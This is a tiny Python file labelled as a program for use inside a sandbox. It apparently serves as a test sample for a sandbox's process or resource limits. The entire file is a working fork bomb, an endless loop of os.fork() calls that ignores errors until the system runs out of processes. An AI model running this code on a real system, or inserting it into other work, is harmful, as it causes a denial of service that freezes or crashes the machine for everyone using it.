# ruff: noqa - a program for the inside of a sandbox
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
